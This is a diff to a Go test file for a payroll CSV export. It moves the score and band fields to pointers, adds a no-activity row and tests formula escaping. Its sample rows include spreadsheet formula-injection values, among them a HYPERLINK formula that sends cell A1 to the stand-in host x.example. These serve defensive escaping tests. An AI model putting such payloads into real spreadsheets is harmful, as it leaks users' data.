@@ -21,12 +21,14 @@ var update = flag.Bool("update", false, "rewrite the golden files in testdata/")
 // quoting, formula injection, nulls, zero and negative money.
 func sampleRows() []schema.PayrollRow {
 	return []schema.PayrollRow{
-		{Month: "2026-09", EmployeeID: "E001", EmployeeName: ptr("张三"), Team: ptr("华东一组"), ScoreCenti: 9250, Band: "A", MultiplierCenti: 120, PerformancePayFen: ptr(int64(600000)), PayoutFen: ptr(int64(720000))},
-		{Month: "2026-09", EmployeeID: "E002", EmployeeName: ptr("O'Brien, \"Pat\""), Team: ptr("VIP\n坐席"), ScoreCenti: 8000, Band: "B", MultiplierCenti: 100, PerformancePayFen: ptr(int64(123457)), PayoutFen: ptr(int64(123457))},
-		{Month: "2026-09", EmployeeID: "E003", EmployeeName: ptr(`=HYPERLINK("http://x.example/?q="&A1,"点我")`), Team: ptr("-5"), ScoreCenti: 6999, Band: "D", MultiplierCenti: 50, PerformancePayFen: ptr(int64(12345)), PayoutFen: ptr(int64(6173))},
-		{Month: "2026-09", EmployeeID: "E004", ScoreCenti: 7000, Band: "C", MultiplierCenti: 80},
-		{Month: "2026-09", EmployeeID: "E005", EmployeeName: ptr("@x"), Team: ptr("+1"), ScoreCenti: 10000, Band: "A", MultiplierCenti: 120, PerformancePayFen: ptr(int64(0)), PayoutFen: ptr(int64(0))},
-		{Month: "2026-09", EmployeeID: "E006", EmployeeName: ptr("'quoted"), Team: ptr("\tTab"), ScoreCenti: 5, Band: "D", MultiplierCenti: 50, PerformancePayFen: ptr(int64(-1)), PayoutFen: ptr(int64(-1))},
+		{Month: "2026-09", EmployeeID: "E001", EmployeeName: ptr("张三"), Team: ptr("华东一组"), ScoreCenti: ptr(int64(9250)), Band: ptr("A"), MultiplierCenti: 120, PerformancePayFen: ptr(int64(600000)), PayoutFen: ptr(int64(720000))},
+		{Month: "2026-09", EmployeeID: "E002", EmployeeName: ptr("O'Brien, \"Pat\""), Team: ptr("VIP\n坐席"), ScoreCenti: ptr(int64(8000)), Band: ptr("B"), MultiplierCenti: 100, PerformancePayFen: ptr(int64(123457)), PayoutFen: ptr(int64(123457))},
+		{Month: "2026-09", EmployeeID: "E003", EmployeeName: ptr(`=HYPERLINK("http://x.example/?q="&A1,"点我")`), Team: ptr("-5"), ScoreCenti: ptr(int64(6999)), Band: ptr("D"), MultiplierCenti: 50, PerformancePayFen: ptr(int64(12345)), PayoutFen: ptr(int64(6173))},
+		{Month: "2026-09", EmployeeID: "E004", ScoreCenti: ptr(int64(7000)), Band: ptr("C"), MultiplierCenti: 80},
+		{Month: "2026-09", EmployeeID: "E005", EmployeeName: ptr("@x"), Team: ptr("+1"), ScoreCenti: ptr(int64(10000)), Band: ptr("A"), MultiplierCenti: 120, PerformancePayFen: ptr(int64(0)), PayoutFen: ptr(int64(0))},
+		{Month: "2026-09", EmployeeID: "E006", EmployeeName: ptr("'quoted"), Team: ptr("\tTab"), ScoreCenti: ptr(int64(5)), Band: ptr("D"), MultiplierCenti: 50, PerformancePayFen: ptr(int64(-1)), PayoutFen: ptr(int64(-1))},
+		// no_activity (spec §8): no score, no band, no_activity.multiplier.
+		{Month: "2026-09", EmployeeID: "E007", EmployeeName: ptr("冯若曦"), Team: ptr("售后二组"), MultiplierCenti: 100, PerformancePayFen: ptr(int64(400000)), PayoutFen: ptr(int64(400000))},
 	}
 }
 
@@ -74,7 +76,7 @@ func TestFormulaEscaping(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			row := schema.PayrollRow{Month: "2026-09", EmployeeID: tt.in + "id", EmployeeName: ptr(tt.in), Team: ptr(tt.in), Band: tt.in, ScoreCenti: 9000, MultiplierCenti: 120}
+			row := schema.PayrollRow{Month: "2026-09", EmployeeID: tt.in + "id", EmployeeName: ptr(tt.in), Team: ptr(tt.in), Band: ptr(tt.in), ScoreCenti: ptr(int64(9000)), MultiplierCenti: 120}
 			if tt.in == "" {
 				row.EmployeeID = "E1"
 			}
@@ -95,7 +97,11 @@ func TestFormulaEscaping(t *testing.T) {
 			require.NoError(t, err)
 			require.Len(t, back, 1)
 			assert.Equal(t, row.EmployeeID, back[0].EmployeeID)
-			assert.Equal(t, tt.in, back[0].Band)
+			if tt.in == "" {
+				assert.Nil(t, back[0].Band, "an empty band cell reads as null")
+			} else {
+				assert.Equal(t, tt.in, *back[0].Band)
+			}
 			if tt.in == "" {
 				assert.Nil(t, back[0].EmployeeName, "an empty cell reads as null")
 			} else {
